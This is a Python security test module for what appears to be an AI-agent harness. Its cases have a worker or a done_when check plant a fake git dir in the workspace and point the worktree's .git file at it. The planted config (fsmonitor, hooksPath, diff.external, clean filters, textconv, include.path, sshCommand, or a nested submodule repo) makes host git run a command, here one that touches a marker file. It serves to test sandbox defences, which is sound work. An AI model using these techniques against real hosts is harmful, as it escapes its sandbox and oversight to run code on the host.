"""Attacks on the host's git: files in a repo task's worktree that would choose the git dir or config the host runs.

Each case rewrites the worktree's `.git` file to point at a git dir planted in the workspace (its objects borrowed
from the real repository through `alternates`, so every host command finds the commits it names), whose config
makes git run a command that writes a marker on the host. The worker plants it, or a `done_when` check does.
One more case makes a repository in a submodule's folder: git would look inside it with that repository's config.
"""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from interns.journal import CommandRun
from tests.security.attack import Attack, Seen, Turns, call, sh, touched
from tests.security.conftest import Host

EVIL = ".evil"
"""The planted git dir, inside the workspace."""

# A git dir git accepts: HEAD, refs/, objects/ borrowing the real repository's objects. The worktree's own `.git`
# file names the real admin dir, `<repo>/.git/worktrees/<name>`, so the real objects are next to it.
_PLANT_GIT_DIR = (
    "set -e; real=$(sed -n 's/^gitdir: //p' .git); "
    f"mkdir -p {EVIL}/objects/info {EVIL}/refs {EVIL}/hooks; "
    f"echo 'ref: refs/heads/main' > {EVIL}/HEAD; "
    f'echo "${{real%/worktrees/*}}/objects" > {EVIL}/objects/info/alternates; '
)
_POINT_AT_IT = f"printf 'gitdir: {EVIL}\\n' > .git"


def _quoted(text: str) -> str:
    """Text as one single-quoted shell word."""
    return "'" + text.replace("'", "'\\''") + "'"


def _write(path: str, text: str) -> str:
    return f"printf '%s' {_quoted(text)} > {path}; "


def _hook(marker: Path) -> str:
    return f"#!/bin/sh\ntouch {marker}\n"


@dataclass(frozen=True)
class Plant:
    """What one attack writes into the workspace, given the marker path: the planted git dir's config and more."""

    config: Callable[[Path], str]
    extra: Callable[[Path], str] = lambda marker: ""

    def command(self, marker: Path) -> str:
        """The shell command that plants it and points the worktree's `.git` file at it."""
        return _PLANT_GIT_DIR + _write(f"{EVIL}/config", self.config(marker)) + self.extra(marker) + _POINT_AT_IT


def _hooks(marker: Path) -> str:
    names = ["pre-commit", "post-commit", "post-index-change", "reference-transaction", "post-merge", "post-checkout"]
    writes = "".join(
        _write(f"{folder}/{name}", _hook(marker)) for folder in ("hooks", f"{EVIL}/hooks") for name in names
    )
    return "mkdir -p hooks; " + writes + f"chmod +x hooks/* {EVIL}/hooks/*; "


PLANTS: dict[str, Plant] = {
    "core.fsmonitor": Plant(lambda m: f'[core]\n\tfsmonitor = "touch {m}; false"\n'),
    "core.hooksPath": Plant(lambda m: "[core]\n\thooksPath = hooks\n", _hooks),
    "diff.external": Plant(lambda m: f'[diff]\n\texternal = "touch {m}; true"\n', lambda m: "echo changed > a.txt; "),
    "filter clean": Plant(
        lambda m: f'[filter "x"]\n\tclean = "touch {m}; cat"\n\tsmudge = "touch {m}; cat"\n',
        lambda m: "echo '* filter=x' > .gitattributes; echo changed > a.txt; ",
    ),
    "diff textconv": Plant(
        lambda m: f'[diff "x"]\n\ttextconv = "touch {m}; cat"\n\tcommand = "touch {m}; true"\n',
        lambda m: "echo '* diff=x' > .gitattributes; echo changed > a.txt; ",
    ),
    "include.path": Plant(
        lambda m: "[include]\n\tpath = planted.cfg\n",
        lambda m: _write(f"{EVIL}/planted.cfg", f'[core]\n\tfsmonitor = "touch {m}; false"\n'),
    ),
    # No host command fetches; a partial clone fetches a missing object by itself, over ssh.
    "core.sshCommand": Plant(
        lambda m: (
            "[core]\n\trepositoryformatversion = 1\n"
            f'\tsshCommand = "touch {m}; false"\n'
            "[extensions]\n\tpartialClone = origin\n"
            '[remote "origin"]\n\turl = ssh://git.example.invalid/x.git\n\tpromisor = true\n'
        ),
        lambda m: f"rm {EVIL}/objects/info/alternates; ",
    ),
}


def make_repo(host: Host, project: Path) -> None:
    """Turn the project folder into the task's repository: one commit on main."""
    identity = ["-c", "user.name=t", "-c", "user.email=t@example.com"]
    (project / "a.txt").write_text("one\n")
    for args in (["init", "-q", "-b", "main"], ["add", "-A"], [*identity, "commit", "-q", "-m", "first"]):
        subprocess.run(["git", *args], cwd=project, check=True, capture_output=True)


PLANT_SCRIPT = "plant.sh"
"""The worker's script a `done_when` check runs, in the cases where the check plants the git dir."""

# The check plants, and fails the first time: the step is tried again, and the host diffs the planted worktree.
PLANTING_CHECK = f"sh {PLANT_SCRIPT}; test -e .checked-once || {{ touch .checked-once; exit 1; }}"


def _ran(seen: Seen, by: str, needle: str) -> bool:
    """The journal shows a command by `by` that holds the needle, and that it ran to the end."""
    runs = [e for e in seen.events if isinstance(e, CommandRun) and e.by == by]
    return any(needle in " ".join(run.argv) and run.exit_code == 0 for run in runs)


def _planted_by_worker(seen: Seen) -> bool:
    return _ran(seen, "worker", _POINT_AT_IT)


def _planted_by_check(seen: Seen) -> bool:
    runs = [e for e in seen.events if isinstance(e, CommandRun) and e.by == "check"]
    return any(PLANT_SCRIPT in " ".join(run.argv) for run in runs)


@dataclass(frozen=True)
class RepoAttack(Attack):
    """An attack on a repo task: the project is a git repository, each step works in a worktree of it."""

    check: str = ""
    """A `done_when` command for the step (the one that plants the git dir, in the cases where a check does)."""

    def task(self, backend: str) -> dict[str, Any]:
        """The attack's task on a repository; its step with the check, and one retry so the host looks again."""
        task = super().task(backend)
        task["workspace"] = {"repo": "project", "base": "main"}
        if self.check:
            task["steps"][0]["done_when"] = [self.check]
            task["review"] = {"retries": 1}
        return task

    def script(self, host: Host, backend: str) -> dict[str, Turns]:
        """The turns; with a check, a last answer for the retry its first failure brings."""
        script = super().script(host, backend)
        if self.check:
            script["work"].append({"final": "done again"})
        return script


def _by_worker(plant: Plant) -> Callable[[Host, str], Turns]:
    def turns(host: Host, backend: str) -> Turns:
        return [sh(plant.command(host.marker("git")))]

    return turns


def _by_check(plant: Plant) -> Callable[[Host, str], Turns]:
    def turns(host: Host, backend: str) -> Turns:
        return [call("write", path=PLANT_SCRIPT, content=plant.command(host.marker("git")) + "\n")]

    return turns


def _cases() -> list[Attack]:
    cases: list[Attack] = []
    for name, plant in PLANTS.items():
        cases.append(
            RepoAttack(
                f"git dir by worker: {name}", _by_worker(plant), touched, prepare=make_repo, recorded=_planted_by_worker
            )
        )
    for name, plant in PLANTS.items():
        cases.append(
            RepoAttack(
                f"git dir by check: {name}",
                _by_check(plant),
                touched,
                prepare=make_repo,
                recorded=_planted_by_check,
                check=PLANTING_CHECK,
            )
        )
    return cases


# The commit a submodule records, made again the same way, byte for byte, wherever it is made: the same sha.
_SUBMODULE_COMMIT = (
    "git init -q && echo one > f && git add f && "
    "GIT_AUTHOR_DATE=2001-01-01T00:00:00Z GIT_COMMITTER_DATE=2001-01-01T00:00:00Z "
    "git -c user.name=s -c user.email=s@example.com -c commit.gpgSign=false commit -q -m sub"
)


def make_repo_with_submodule(host: Host, project: Path) -> None:
    """The task's repository, with a submodule recorded at `sub` (its folder empty in a checkout)."""
    make_repo(host, project)
    source = project.parent / "submodule-source"
    source.mkdir()
    subprocess.run(["bash", "-c", _SUBMODULE_COMMIT], cwd=source, check=True, capture_output=True)
    sha = subprocess.run(["git", "rev-parse", "HEAD"], cwd=source, check=True, capture_output=True, text=True).stdout
    identity = ["-c", "user.name=t", "-c", "user.email=t@example.com"]
    for args in (
        ["update-index", "--add", "--cacheinfo", f"160000,{sha.strip()},sub"],
        [*identity, "commit", "-qm", "sub"],
    ):
        subprocess.run(["git", *args], cwd=project, check=True, capture_output=True)


def _nested_repo(host: Host, backend: str) -> Turns:
    """The submodule's commit made again in its folder, in a repository whose config names a clean filter.

    The file is written again, the same size, once the filter is armed: git must filter it to tell if it changed.
    """
    marker = host.marker("git")
    return [
        sh(
            f"set -e; cd sub; {_SUBMODULE_COMMIT}; "
            f"git config filter.e.clean {_quoted(f'test -e armed && touch {marker}; cat')}; "
            "echo '* filter=e' > .git/info/attributes; touch armed; echo one > f"
        )
    ]


def _nested_made(seen: Seen) -> bool:
    return _ran(seen, "worker", "touch armed")


GIT_ATTACKS: list[Attack] = [
    *_cases(),
    RepoAttack(
        "git in a submodule's folder", _nested_repo, touched, prepare=make_repo_with_submodule, recorded=_nested_made
    ),
]
